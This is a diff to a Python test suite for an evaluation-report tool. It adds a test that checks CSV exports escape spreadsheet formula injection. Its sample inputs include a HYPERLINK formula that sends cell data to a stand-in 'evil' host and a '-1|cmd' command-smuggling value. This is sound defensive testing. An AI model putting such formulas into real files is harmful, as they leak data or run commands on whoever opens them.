@@ -175,7 +175,7 @@ def test_several_runs_are_on_one_plane(tmp_path, small_runs):
 def test_twelve_runs_are_rows(twelve_runs):
     page = twelve_runs.page
     assert [tag for tag, _ in page.tags if tag == "table"]
-    assert "step-11" in page.prose
+    assert "10 a-model-of-8b-step-10" in page.prose
     assert page.prose.count("Over-refusal lower is better; 8 prompts") >= 1
 
 
@@ -220,6 +220,26 @@ def test_csv_tables_contain_unrounded_numbers(two_runs):
     comparisons = read_results(two_runs.runs[1] / "evaluation").comparisons
     assert [float(row["difference"]) for row in rows] == [comparison.difference for comparison in comparisons]
     assert {(row["run"], row["against"]) for row in rows} == {("bfpo", "base")}
+
+
+def test_csv_tables_contain_no_formulas(tmp_path, small_runs):
+    formulas = ['=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1)", "+A1", "-1|cmd", "\t=1", "\r=1"]
+    harmless = ["+1", "-2.5e-3", "a=b", ""]
+    content = read_content(small_runs[1])
+    safety = next(row for row in content["metrics"] if row["metric"] == "safety")
+    changes = {"run": formulas[0], "comparisons": [row | {"against": formulas[1]} for row in content["comparisons"]]}
+    categories = [safety | {"category": category} for category in (*formulas, *harmless)]
+    change_results(small_runs[1], metrics=[*content["metrics"], *categories], **changes)
+    folder = draw(tmp_path / "out", small_runs).folder
+    tables = []
+    for name in ("metrics.csv", "comparisons.csv"):
+        with (folder / name).open(encoding="utf-8", newline="") as file:
+            tables.append(list(csv.DictReader(file)))
+    assert {row["run"] for row in tables[0]} == {"base", f"'{formulas[0]}"}
+    assert [row["category"] for row in tables[0][-10:]] == [f"'{formula}" for formula in formulas] + harmless
+    assert {(row["run"], row["against"]) for row in tables[1]} == {(f"'{formulas[0]}", f"'{formulas[1]}")}
+    # Numbers stay numbers.
+    assert any(row["difference"].startswith("-") for row in tables[1])
 
 
 def test_different_judges_are_flagged(tmp_path, small_runs):
